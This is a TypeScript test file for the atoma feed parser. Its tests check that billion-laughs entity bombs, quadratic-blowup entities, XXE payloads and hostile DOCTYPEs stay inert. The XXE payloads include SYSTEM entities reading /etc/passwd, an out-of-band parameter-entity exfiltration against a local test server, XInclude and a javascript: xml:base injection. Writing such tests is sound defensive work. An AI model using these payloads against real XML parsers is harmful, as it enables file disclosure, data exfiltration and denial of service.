// Entity attacks: amplification, external entities and hostile DOCTYPEs. atoma never expands a
// declared entity and never fetches anything, so each of these stays as small as its input.
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parseAtom, parseRss, validateFeed } from '../../src/index.js';
import { attack, attackEach, survived } from './bounds.js';
import { atom, laughs, rss, XML_ENTRY_POINTS } from './documents.js';

const raw = { sanitize: false } as const;

describe('entity amplification', () => {
  it('leaves billion-laughs references in text and attributes as written', () => {
    const doc = rss(`<item><title a="&lol9;">&lol9;</title><description>&lol9;&lol9;</description></item>`, laughs(9));
    const channel = survived(() => parseRss(doc, raw), { cpuMs: 500, retainedMb: 5 });
    expect(channel.items[0]!.title).toBe('&lol9;');
    expect(channel.items[0]!.description).toBe('&lol9;&lol9;');
  });

  it('keeps a deeper bomb referenced from every element and attribute inert in every entry point', () => {
    const item = '<item><title x="&lol30;" y="&lol30;">&lol30;</title><description>&lol30;</description></item>';
    const doc = rss(item.repeat(2_000), laughs(30));
    for (const [name, read] of XML_ENTRY_POINTS) {
      const { value } = attack(() => read(doc), { cpuMs: 1500, retainedMb: 128 });
      if (name === 'parseRss') {
        const items = (value as ReturnType<typeof parseRss>).items;
        expect(items).toHaveLength(2_000);
        expect(items.every((i) => i.title === '&lol30;')).toBe(true);
      }
    }
  });

  it('does not grow quadratically: one 100 KB entity referenced 20,000 times stays 20,000 references', () => {
    const big = 'x'.repeat(100_000);
    const refs = '&big;'.repeat(20_000);
    const doc = rss(`<item><title t="${refs}">${refs}</title></item>`, `<!DOCTYPE rss [<!ENTITY big "${big}">]>`);
    const channel = survived(() => parseRss(doc, raw), { cpuMs: 500, retainedMb: 16 });
    expect(channel.items[0]!.title).toBe(refs);
  });

  it('reports the unexpanded references when validating, without expanding them', () => {
    const doc = rss('<item><title>&lol9;</title><guid>g</guid><description>d</description></item>', laughs(9));
    const report = survived(() => validateFeed(doc), { cpuMs: 500, retainedMb: 5 });
    expect(report.issues.length).toBeGreaterThan(0);
    expect(JSON.stringify(report).length).toBeLessThan(100_000);
  });
});

describe('external entities and DTDs are never fetched', () => {
  let server: Server;
  let requests: string[];
  let origin: string;

  beforeAll(async () => {
    requests = [];
    server = createServer((request, response) => {
      requests.push(request.url ?? '');
      response.end('<!ENTITY leaked "LEAKED">');
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  });

  afterAll(async () => {
    await new Promise<void>((resolve) => server.close(() => resolve()));
  });

  /** Documents that, read by a careless XML parser, would fetch from the server or read a file. */
  function externalAttacks(): string[] {
    return [
      rss('<description>&xxe;</description>', '<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'),
      rss('<description>&xxe;</description>', `<!DOCTYPE rss [<!ENTITY xxe SYSTEM "${origin}/general">]>`),
      rss('<description>&leaked;</description>', `<!DOCTYPE rss [<!ENTITY % remote SYSTEM "${origin}/parameter"> %remote;]>`),
      rss('<description>&xxe;</description>', `<!DOCTYPE rss [<!ENTITY xxe PUBLIC "-//A//B//EN" "${origin}/public">]>`),
      rss('<description>&leaked;</description>', `<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "${origin}/dtd">`),
      rss('<description>&leaked;</description>', `<!DOCTYPE rss SYSTEM "${origin}/system-dtd">`),
      rss(
        '<description>&send;</description>',
        `<!DOCTYPE rss [<!ENTITY % file SYSTEM "file:///etc/hostname"><!ENTITY % dtd SYSTEM "${origin}/oob?%file;"> %dtd;]>`,
      ),
      atom(`<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${origin}/xinclude" parse="text"/>`),
      `<?xml-stylesheet type="text/xsl" href="${origin}/xsl"?>` + rss('<description>d</description>'),
      atom('<entry><id>e</id><content type="html">&lt;img src="/x"&gt;</content></entry>', '', ` xml:base="${origin}/base/"`),
    ];
  }

  it('reads each attack without touching the network or the file system, in every entry point', async () => {
    const calls = externalAttacks().flatMap((doc) => XML_ENTRY_POINTS.map(([, read]) => () => read(doc)));
    for (const { value } of attackEach(calls, { cpuMs: 1000, retainedMb: 5 })) {
      expect(JSON.stringify(value) ?? '').not.toMatch(/LEAKED|root:|daemon:/);
    }
    // A parser that fetched asynchronously would have done so by now.
    await new Promise((resolve) => setTimeout(resolve, 200));
    expect(requests).toEqual([]);
  });

  it('keeps the references as written', () => {
    const [file, http, parameter] = externalAttacks();
    expect(parseRss(file!, raw).description).toBe('&xxe;');
    expect(parseRss(http!, raw).description).toBe('&xxe;');
    expect(parseRss(parameter!, raw).description).toBe('&leaked;');
  });
});

describe('hostile DOCTYPEs', () => {
  it('skips an internal subset of half a million entity declarations in linear time', () => {
    const subset = Array.from({ length: 500_000 }, (_, i) => `<!ENTITY e${i} "v">`).join('');
    const doc = rss('<description>&e499999; &amp;</description>', `<!DOCTYPE rss [${subset}]>`);
    expect(doc.length).toBeGreaterThan(10_000_000);
    const channel = survived(() => parseRss(doc, raw), { cpuMs: 2000, retainedMb: 128 });
    expect(channel.description).toBe('&e499999; &');
  });

  it('skips a subset of nested parentheses, comments and PIs without recursion', () => {
    const subset = `<!ELEMENT rss ${'('.repeat(500_000)}a${')'.repeat(500_000)}><!-- ${'-'.repeat(1_000_000)} --><?pi ${'?'.repeat(100_000)}?>`;
    survived(() => parseRss(rss('', `<!DOCTYPE rss [${subset}]>`)), { cpuMs: 1000, retainedMb: 5 });
  });

  it('refuses an unterminated DOCTYPE quickly, whatever it contains', () => {
    const bodies = ['['.repeat(1_000_000), '"'.repeat(1_000_001), '<!--'.repeat(250_000), '<!ENTITY '.repeat(100_000), '<!ENTITY % pe "'.repeat(50_000)];
    for (const body of bodies) {
      const results = attackEach(XML_ENTRY_POINTS.map(([, read]) => () => read(`<!DOCTYPE rss ${body}`)), { cpuMs: 500, retainedMb: 5 });
      XML_ENTRY_POINTS.forEach(([name], i) => {
        const { error, value } = results[i]!;
        if (name === 'parseRss' || name === 'parseAtom') expect(error?.code).toBe('XML_MALFORMED');
        if (name === 'detectFormat') expect(value).toBe(null);
      });
    }
  });

  it('does not apply DTD attribute defaults (no namespace or xml:base injection)', () => {
    const doc = atom(
      '<link href="/page"/>',
      `<!DOCTYPE feed [<!ATTLIST feed xml:base CDATA "javascript:alert(1)//"><!ATTLIST feed xmlns CDATA "urn:evil">]>`,
    );
    const feed = parseAtom(doc, { baseUrl: 'https://example.com/' });
    expect(feed.links[0]!.href).toBe('https://example.com/page');
  });
});
